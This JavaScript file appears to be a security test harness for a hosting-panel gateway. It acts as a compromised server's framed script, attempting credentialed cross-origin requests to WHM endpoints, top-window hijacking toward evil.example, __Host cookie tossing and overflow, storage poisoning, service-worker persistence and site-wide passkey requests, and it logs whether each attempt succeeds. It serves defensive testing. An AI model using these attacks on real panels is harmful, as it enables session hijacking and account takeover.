// What script of a compromised server tries from the panel's frame. It knows everything that is not secret to a
// browser: the console, another server's origin, even that panel's security token.

const { home, other, third, token } = Object.fromEntries(new URLSearchParams(location.search));
const site = new URL(home).hostname;
/** @type {Record<string, string>} what each attempt came to */
const results = {};
/** Counts attempts, so that the other server's log shows which one got there. */
let tries = 0;

/** @param {string} [path] */
const there = (path = "/scripts4/listaccts") => `${other}${token}${path}?attacked=${(tries += 1)}`;

/**
 * @param {Promise<unknown>} promise
 * @returns {Promise<unknown>}
 */
const soon = (promise) => Promise.race([promise, new Promise((resolve) => setTimeout(resolve, 4000, "nothing"))]);

/**
 * @param {string} what
 * @param {() => unknown} act
 */
async function attempt(what, act) {
  try {
    results[what] = String(await soon(Promise.resolve(act())));
  } catch (error) {
    results[what] = `${/** @type {Error} */ (error).name}`;
  }
}

/**
 * What an element that loads something came to.
 * @param {string} tag
 * @param {Record<string, string>} attributes
 */
function loads(tag, attributes) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.addEventListener("load", () => resolve("loaded"));
    element.addEventListener("error", () => resolve("error"));
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
  });
}

/** @param {string} address */
async function reads(address) {
  const frame = document.createElement("iframe");
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve));
  frame.src = address;
  document.body.append(frame);
  await soon(loaded);
  return frame.contentDocument ? `read ${frame.contentDocument.title}` : "closed";
}

/** @param {string} address */
const socket = (address) =>
  new Promise((resolve) => {
    const socket = new WebSocket(address);
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  });

/**
 * @param {string} action
 * @param {string} target
 */
function post(action, target) {
  const form = Object.assign(document.createElement("form"), { method: "post", action, target });
  document.body.append(form);
  form.submit();
}

/** @param {string} address */
async function postsIntoFrame(address) {
  const frame = document.createElement("iframe");
  frame.name = `target-${(tries += 1)}`;
  document.body.append(frame);
  const loaded = new Promise((resolve) => frame.addEventListener("load", resolve, { once: true }));
  post(address, frame.name);
  await soon(loaded);
  return frame.contentDocument?.body?.textContent ? "read" : "closed";
}

/** @param {string} address */
const unseen = async (address) => (await fetch(address, { mode: "no-cors", credentials: "include" })).type;
/** @param {string} address */
const seen = async (address) => (await fetch(address, { credentials: "include" })).text();

async function byItself() {
  await attempt("fetch another server", () => seen(there()));
  await attempt("fetch another server without looking", () => unseen(there()));
  await attempt("post to another server without looking", async () => {
    return (await fetch(there(), { method: "POST", mode: "no-cors", credentials: "include", body: "a=b" })).type;
  });
  await attempt("beacon to another server", () => void navigator.sendBeacon(there(), "a=b"));
  await attempt("script of another server", () => loads("script", { src: there("/lab/main.js") }));
  await attempt("picture of another server", () => loads("img", { src: there() }));
  await attempt("style of another server", () => loads("link", { rel: "stylesheet", href: there() }));
  await attempt("object of another server", () => loads("object", { data: there() }));
  await attempt("event source of another server", () => new Promise((resolve) => {
    const source = new EventSource(there(), { withCredentials: true });
    source.onopen = () => resolve("open");
    source.onerror = () => resolve("error");
  }));
  await attempt("terminal of another server", () => socket(there("/websocket/Shell").replace("https", "wss")));
  await attempt("frame another server", () => reads(there()));
  await attempt("frame another server through its entrance", () => reads(`${other}/.panelgate/enter?account=root`));
  await attempt("frame a third server's entrance", () => reads(`${third}/.panelgate/enter?account=root`));
  await attempt("frame a third server's entrance with a made-up ticket", () => reads(`${third}/.panelgate/enter?ticket=${"A".repeat(43)}`));
  await attempt("form into a frame, to another server", () => postsIntoFrame(there("/scripts2/savetweaksettings")));

  await attempt("fetch the console", () => seen(`${home}/`));
  await attempt("fetch the session", () => seen(`${home}/api/session`));
  await attempt("open a panel", () => fetch(`${home}/api/open`, { method: "POST", mode: "no-cors", credentials: "include", body: '{"server":"web3","service":"whostmgrd","account":"root"}' }).then((answer) => answer.type));
  await attempt("frame the console", () => reads(`${home}/`));
  await attempt("hand-off with its own challenge", () => {
    return reads(`${home}/handoff?server=web3&service=whostmgrd&account=root&challenge=${"A".repeat(43)}`);
  });
  await attempt("hand-off with a made-up ticket", () => {
    return reads(`${home}/handoff?ticket=${"A".repeat(43)}&challenge=${"A".repeat(43)}`);
  });
  await attempt("sign the person out", () => postsIntoFrame(`${home}/sign-out`));
  await attempt("socket to the console", () => socket(`${home.replace("https", "wss")}/api/session`));

  await attempt("read the top window", () => top?.document.title);
  await attempt("read the top window's address", () => top?.location.href);
  await attempt("read the console's storage", () => top?.localStorage.length);
  await attempt("share a domain", () => {
    document.domain = site;
    return top?.document.title;
  });
  await attempt("take the top window", () => {
    top?.location.assign("https://evil.example/");
    return "assigned";
  });
  await attempt("take the top window with a link", () => {
    const link = Object.assign(document.createElement("a"), { href: "https://evil.example/", target: "_top" });
    document.body.append(link);
    link.click();
  });
  await attempt("take the top window with a form", () => post("https://evil.example/", "_top"));
  await attempt("close the top window", () => top?.close());
  await attempt("message the console", () => {
    for (const word of ["sign-in", "anything"]) top?.postMessage({ panelgate: word }, "*");
    top?.postMessage("x".repeat(1e6), "*");
    top?.postMessage(null, "*");
  });

  await attempt("our cookies", () => document.cookie);
  await attempt("set our cookies", () => {
    for (const name of ["session", "login", "whm", "cpanel", "webmail", "whm-verifier"]) {
      document.cookie = `__Host-panelgate-${name}=${"e".repeat(43)}; Path=/; Secure; Domain=${site}`;
      document.cookie = `__Host-panelgate-${name}=${"e".repeat(43)}; Path=/cpsess; Secure`;
      document.cookie = `__host-panelgate-${name}=${"e".repeat(43)}; Path=/; Secure; Domain=${site}`;
      document.cookie = `=__Host-panelgate-${name}=${"e".repeat(43)}; Path=/; Secure; Domain=${site}`;
    }
    return document.cookie.includes("__Host") ? document.cookie : "none was taken";
  });
  await attempt("storage in the console's name", () => {
    localStorage.setItem("panelgate.recent", '["evil"]');
    new BroadcastChannel("panelgate").postMessage("evil");
  });
  await attempt("stay as a service worker", () => navigator.serviceWorker.register(location.pathname.replace(/[^/]*$/, "worker.js")));
  await attempt("ask for a passkey of the whole site", () => {
    return navigator.credentials.get({ publicKey: { challenge: new Uint8Array(32), rpId: site } });
  });
  await attempt("make a passkey for the whole site", () => navigator.credentials.create({ publicKey: {
    challenge: new Uint8Array(32), rp: { id: site, name: "x" }, user: { id: new Uint8Array(8), name: "x", displayName: "x" },
    pubKeyCredParams: [{ type: "public-key", alg: -7 }],
  } }));
  await attempt("read the clipboard", () => navigator.clipboard.readText());
  await attempt("camera", () => navigator.mediaDevices.getUserMedia({ video: true }).then(() => "granted"));
  await attempt("place", () => new Promise((resolve) => {
    navigator.geolocation.getCurrentPosition(() => resolve("granted"), () => resolve("denied"));
  }));
  await attempt("notifications", () => Notification.requestPermission());
}

/** What needs a press of a button, which people give freely. */
async function whenPressed() {
  await attempt("open another server in a window", () => {
    const opened = window.open(there());
    return opened === null ? "no handle" : soon(new Promise((resolve) => setTimeout(() => resolve(opened.closed ? "no handle" : opened.document.title), 1500)));
  });
  results.pressed = "yes";
}

/**
 * What a page of ours in this place may ask, but only while somebody presses something: so it comes when a press
 * counts for nothing any more, which in all browsers is after five seconds.
 */
function nag() {
  setTimeout(() => {
    for (const word of ["reopen", "choose"]) top?.postMessage({ panelgate: word }, "*");
    console.log("nagged");
  }, 6000);
}

/** Last, because it may take this page away. */
function goBack() {
  history.go(-20);
}

/** More cookies for the whole domain than a browser keeps. */
function overflow() {
  for (let n = 0; n < 400; n += 1) document.cookie = `evil${n}=1; Path=/; Secure; Domain=${site}`;
}

Object.assign(window, { results, nag, goBack, overflow });
document.getElementById("press")?.addEventListener("click", () => void whenPressed());
void byItself().then(() => (results.done = "yes"));
